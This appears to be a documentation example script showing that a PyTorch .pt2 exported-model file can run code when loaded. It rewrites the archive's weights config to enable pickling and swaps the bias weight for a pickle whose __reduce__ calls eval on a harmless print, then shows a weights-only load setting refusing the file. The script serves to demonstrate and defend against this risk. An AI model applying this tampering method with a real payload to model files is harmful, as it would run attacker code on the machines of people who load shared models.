"""A .pt2 file can run code, too: torch.export.load reads pickles in it."""

# /// script
# dependencies = ["torch>=2.9", "numpy"]
# ///

# --8<-- [start:stranger]
import io
import json
import zipfile

import torch
from torch import nn

honest = nn.Linear(4, 2).eval()
exported = torch.export.export(honest, (torch.rand(3, 4),))
torch.export.save(exported, "honest.pt2")


class Loud:
    def __reduce__(self):  # to rebuild me: run this text
        code = "print('the file ran') or __import__('torch').nn.Parameter()"
        return eval, (code,)


pickled = io.BytesIO()
torch.save(Loud(), pickled)
old, new = zipfile.ZipFile("honest.pt2"), zipfile.ZipFile("changed.pt2", "w")
with old, new:
    for name in old.namelist():
        content = old.read(name)
        if name.endswith("weights_config.json"):
            weights = json.loads(content)
            weights["config"]["bias"]["use_pickle"] = True  # so says the file
            content = json.dumps(weights)
        if name.endswith("/weight_1"):  # the bias
            content = pickled.getvalue()
        new.writestr(name, content)
# --8<-- [end:stranger]
assert weights["config"]["bias"]["path_name"] == "weight_1"

# --8<-- [start:runs]
changed = torch.export.load("changed.pt2")
print("weights:", *changed.state_dict)
# --8<-- [end:runs]

# --8<-- [start:variable]
import os
from pickle import UnpicklingError
from unittest.mock import patch

with patch.dict(os.environ, {"TORCH_FORCE_WEIGHTS_ONLY_LOAD": "1"}):
    print("honest:", *torch.export.load("honest.pt2").state_dict)
    try:
        torch.export.load("changed.pt2")
    except UnpicklingError as error:
        lines = str(error).splitlines()
        telling = next(line for line in lines if "GLOBAL" in line)
        print(
            f"{type(error).__name__}:", telling.strip().partition(" Please")[0]
        )
    # --8<-- [end:variable]
    else:
        raise AssertionError("the variable does not hold in torch.export.load")
import contextlib

with contextlib.redirect_stdout(io.StringIO()) as heard:
    torch.export.load("honest.pt2")
    assert not heard.getvalue()
    torch.export.load("changed.pt2")
    assert heard.getvalue() == "the file ran\n"
